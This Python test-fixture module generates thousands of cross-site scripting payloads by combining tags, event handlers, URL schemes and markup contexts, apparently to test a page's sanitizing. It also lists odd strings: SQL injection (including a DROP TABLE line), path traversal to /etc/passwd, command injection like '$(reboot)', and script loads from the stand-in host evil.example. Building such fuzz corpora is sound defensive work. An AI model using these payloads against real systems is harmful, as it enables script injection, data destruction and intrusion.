"""Hostile texts of our own making: attacks on pages, and strings that break careless programs.

Attacks are put together from parts, so that a few dozen ideas meet in every combination.
"""

import json
from itertools import product
from pathlib import Path

COLLECTION = Path(__file__).resolve().parents[2] / "shared" / "hostile"  # no part of a clone

CALL = "alert(1)"
ELEMENTS = ["img", "svg", "b", "body", "details open", "input autofocus", "video", "marquee", "x-y"]
HANDLERS = ["onerror", "onload", "onmouseover", "ONFOCUS", "ontoggle", "onbegin", "on\tclick"]
QUOTINGS = ["{h}={c}", "{h}='{c}'", '{h}="{c}"', "/{h}={c}//", "\n{h}\n=\n{c}", 'x="\'"{h}={c}']
TAGS = [
    "<{e} src=x " + quoting + ">" for quoting in QUOTINGS
]  # of an element {e}, a handler {h} and a call {c}
SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT\x0c>{CALL}</SCRIPT >",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:text/javascript,alert(1)></script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script>\n<!--\n{CALL}\n-->\n</script>",
    f"<style><img src=x onerror={CALL}></style>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=9>x</text></a></svg>",
    f"<math href='javascript:{CALL}'>x</math>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:/'>",
    f"<form action='javascript:{CALL}'><button>x</button></form>",
    f"<button formaction='javascript:{CALL}'>x</button>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<title></title><img src=x onerror={CALL}>",
    f"<textarea></textarea><img src=x onerror={CALL}>",
    f"<table background='javascript:{CALL}'><td>x</table>",
    f"<xmp></xmp><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?xml-stylesheet href='javascript:{CALL}'?>",
    f"<template><img src=x onerror={CALL}></template>",
    "<portal src=//evil.example></portal>",
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    " javascript:",
    "javascript&colon;",
    "jav&#x09;ascript:",
    "&#106;avascript:",
    "&#0000106avascript:",
    "javascript\\:",
    "vbscript:",
    "livescript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "view-source:javascript:",
    "feed:javascript:",
]
LINKS = [
    "[x]({s}alert(1))",
    "[x](<{s}alert(1)>)",
    "![x]({s}alert(1))",
    "[x]\n\n[x]: {s}alert(1)",
    "<{s}alert(1)>",
    "<a href='{s}alert(1)'>x</a>",
    '<a href="{s}alert(1)">x</a>',
    "<a href={s}alert(1)>x</a>",
    "<img src='{s}alert(1)'>",
    "[![x]({s}alert(1))]({s}alert(1))",
]
CONTEXTS = [
    "{}",
    "\"'>{}",
    "'\">{}",
    "</textarea>{}",
    "</title>{}",
    "-->{}",
    "]]>{}",
    "</p></div></main>{}",
    "**{}**",
    "> {}",
    "- {}",
    "1. {}",
    "# {}",
    "| a |\n|---|\n| {} |",
    "`{}",
    "```\n```\n{}",
    "[{}](/a)",
    '[a](/a "{}")',
    "[a]: /a '{}'\n\n[a]",
    "![{}](/a.png)",
    "&lt;{}",
    "a\x00{}",
    "\u202e{}",
    "❗ {}",
    "<b>{}</b>",
    "<b title='❗{}'>",
    "<!-- {} -->",
    "<details><summary>{}</summary></details>",
    "{} {}",
    "{{{{ {} }}}}",
]
ODD = [
    *("undefined", "null", "None", "NaN", "Infinity", "-0", "1e309", "0x7F", "00", "١٢٣", "½"),
    *("true", "[]", "{}", "{{ 7|add:7 }}", "{% debug %}", "${7*7}", "<%= 7*7 %>", "%s%n%x", "#{7}"),
    *("'; DROP TABLE entries_entry; --", '" OR ""="', "1 UNION SELECT 1", "a\\'b", "x' AND 1=2"),
    *("../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd", "$(reboot)", "`id`", "| ls"),
    *("CON", "nul.txt", ".", "..", "/", "\\", "//", "a/b", "?", "#", "&", "=", "%00", "%2e%2e%2f"),
    *("\u202eevil", "\u2066a\u2069", "\u200b", "\u200d", "\ufeff", "\xad", "\u2028", "\x85"),
    *("e\u0301\u0302\u0303" * 30, "Z̷̢a̸l̶g̷o̷", "ﷺ", "𝕬𝖇𝖈", "ｆｕｌｌ", "ßẞ", "İıIi", "ǅ", "ﬁ", "Ω≠Ω"),
    *(
        "🏳\ufe0f\u200d🌈",
        "👩🏽\u200d💻",
        "🇩🇪🇩",
        "❗\ufe0f❗",
        "田中さん",
        "שלום",
        "مرحبا",
        "नमस्ते",
        "ไทย",
    ),
    *("\x00", "a\x00b", "\x07", "\x1b[31m", "\x7f", "\ufffd", "\ufffe", "\U0010ffff", "\ue000"),
    *(" ", "\t", "\r", "\r\n", "\n\n\n", "\xa0", "a" * 300, "a " * 300, "❗" * 300, "-" * 300),
]


def attacks() -> list[str]:
    """About 4,000 texts that try to run something on a page that shows them."""
    tags = [
        tag.format(e=element, h=handler, c=CALL)
        for tag, element, handler in product(TAGS, ELEMENTS, HANDLERS)
    ]
    links = [link.format(s=scheme) for link, scheme in product(LINKS, SCHEMES)]
    placed = [
        context.replace("{{", "{").replace("}}", "}").replace("{}", script)
        for context, script in product(CONTEXTS, [*SCRIPTS, *tags[::7], *links[::5]])
    ]
    return [*tags, *links, *placed]


def all_texts() -> list[str]:
    """Attacks, and odd strings after them."""
    return attacks() + ODD


def collected(name: str) -> list[str]:
    """The texts in a file of the collection, for tests marked `corpus`."""
    return [row["payload"] for row in json.loads((COLLECTION / name).read_text("utf-8"))]
